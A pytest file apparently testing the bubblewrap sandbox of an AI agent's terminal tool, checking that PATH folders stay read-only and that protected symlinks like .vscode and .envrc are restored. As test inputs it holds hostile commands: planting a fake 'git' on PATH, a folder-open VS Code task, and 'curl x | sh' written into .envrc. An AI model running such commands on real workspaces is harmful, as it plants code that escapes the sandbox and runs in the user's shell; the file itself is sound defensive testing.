"""What the user's shell runs later from a writable place stays out of a command's reach: the
folders of PATH inside the working directory or a writable root (A4-28: conda's
`~/miniconda3/bin` and `~/go/bin` started in ~; A4-7: an activated project's `.venv/bin`), and
a protected path that is a link (A4-36: `.vscode -> conf/vscode`), which the sandbox cannot
bind itself: the sweep puts it back."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from hermes_tui.core.tools.approvals import Approvals
from hermes_tui.core.tools.registry import ToolContext, ToolRegistry
from hermes_tui.core.tools.sandbox import probe
from hermes_tui.core.tools.terminal import TerminalSettings, make_terminal_tools

pytestmark = pytest.mark.skipif(
    not probe("auto").active, reason=f"no bubblewrap sandbox here: {probe('auto').detail}"
)
PLANT = "printf '#!/bin/sh\\ntouch PWNED\\n' > {0}/git; chmod +x {0}/git"


def test_started_in_the_home_the_folders_on_path_in_it_stay_read_only(tmp_path: Path) -> None:
    from hermes_tui.core.tools.sandbox import Profile, bwrap_argv, search_path_entries

    home = tmp_path / "users" / "tester"
    for folder in ("miniconda3/bin", "go/bin", "sdk/google-cloud/bin", "real/bin", "proj"):
        (home / folder).mkdir(parents=True)
    (home / "links").mkdir()
    (home / "links" / "bin").symlink_to(home / "real" / "bin")  # PATH names the link
    entries = [home / "miniconda3/bin", "/usr/bin", home / "go/bin", home / "links/bin"]
    entries.append(home / "sdk/google-cloud/bin")
    search_path = search_path_entries(os.pathsep.join(map(str, entries)))
    cache = tmp_path / "cache"
    profile = Profile(
        probe("auto").bwrap or "bwrap", home, home, tmp_path / "hermes", home, cache,
        search_path=search_path,
    )  # fmt: skip
    plants = [PLANT.format(folder) for folder in entries if str(folder) != "/usr/bin"]
    script = "; ".join([*plants, f"echo work > {home}/proj/notes.txt && echo ok"])

    done = subprocess.run(
        bwrap_argv(profile, ["bash", "-c", script], exists=os.path.lexists),
        capture_output=True,
        text=True,
        timeout=60,
    )

    assert done.stdout == "ok\n", done.stderr
    assert [p for p in home.rglob("git")] == [], done.stderr
    assert (home / "proj" / "notes.txt").read_text() == "work\n", "projects stay writable"


def test_an_activated_venv_s_bin_stays_read_only_and_a_replaced_one_is_moved_aside(
    tmp_path: Path,
) -> None:
    """A4-7's addendum: `source .venv/bin/activate` puts the workspace's `.venv/bin` first on
    PATH. Writing a `git` there fails; renaming the venv away and making a new `.venv/bin`
    (a mount point cannot be renamed, its parent can) leaves nothing the next shell runs."""
    work = tmp_path / "work"
    (work / ".venv" / "bin").mkdir(parents=True)
    (work / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (work / "tools" / "bin").mkdir(parents=True)
    environ = {"PATH": f"{work}/.venv/bin:/usr/bin:/bin:{work}/tools/bin:{work}/later/bin"}
    settings = TerminalSettings(
        sandbox="on", network="off", hermes_home=tmp_path / "hermes", environ=environ
    )
    registry = ToolRegistry(make_terminal_tools(settings))
    context = ToolContext(cwd=work, workdir=work, approvals=Approvals(lambda _request: "once"))
    command = "; ".join(
        [
            PLANT.format(".venv/bin"),
            PLANT.format("tools/bin"),
            "mv tools old-tools && mkdir -p tools/bin",
            PLANT.format("tools/bin"),
            "mkdir -p later/bin",  # on PATH, not there yet
            PLANT.format("later/bin"),
            "echo kept > notes.txt",
        ]
    )

    result = registry.call("terminal", {"command": command, "timeout": 60}, context)

    assert not (work / ".venv" / "bin" / "git").exists(), result
    assert not (work / "tools" / "bin").exists() and not (work / "later" / "bin").exists()
    assert (work / "notes.txt").read_text() == "kept\n", "the workspace stays writable"
    assert not result["success"] and "tools/bin" in result["error"], result
    assert "later/bin" in result["error"], result


def test_a_protected_path_that_is_a_link_is_put_back_after_the_command(tmp_path: Path) -> None:
    """A4-36: the read-only bind lands where `.vscode` leads; the link itself was removable,
    and the folder a command made in its place stayed. A dangling protected link does not
    stop commands either."""
    work = tmp_path / "work"
    (work / "conf" / "vscode").mkdir(parents=True)
    (work / "conf" / "vscode" / "settings.json").write_text("{}\n")
    (work / "conf" / "envrc").write_text("export A=1\n")
    (work / ".vscode").symlink_to("conf/vscode")
    (work / ".envrc").symlink_to("conf/envrc")
    (work / ".idea").symlink_to("conf/idea")  # leads nowhere
    settings = TerminalSettings(sandbox="on", network="off", hermes_home=tmp_path / "hermes")
    registry = ToolRegistry(make_terminal_tools(settings))
    context = ToolContext(cwd=work, workdir=work, approvals=Approvals(lambda _request: "once"))
    command = (
        "echo evil >> .vscode/settings.json; echo evil >> .envrc; "
        'rm .vscode .envrc && mkdir .vscode && echo \'{"runOn": "folderOpen"}\' > '
        ".vscode/tasks.json && echo 'curl x | sh' > .envrc && echo done"
    )

    result = registry.call("terminal", {"command": command, "timeout": 60}, context)

    assert "done" in result["output"], result
    assert os.readlink(work / ".vscode") == "conf/vscode"
    assert os.readlink(work / ".envrc") == "conf/envrc"
    assert not (work / "conf" / "vscode" / "tasks.json").exists()
    assert (work / "conf" / "vscode" / "settings.json").read_text() == "{}\n"
    assert (work / "conf" / "envrc").read_text() == "export A=1\n"
    assert not result["success"] and "the links .envrc, .vscode put back" in result["error"]
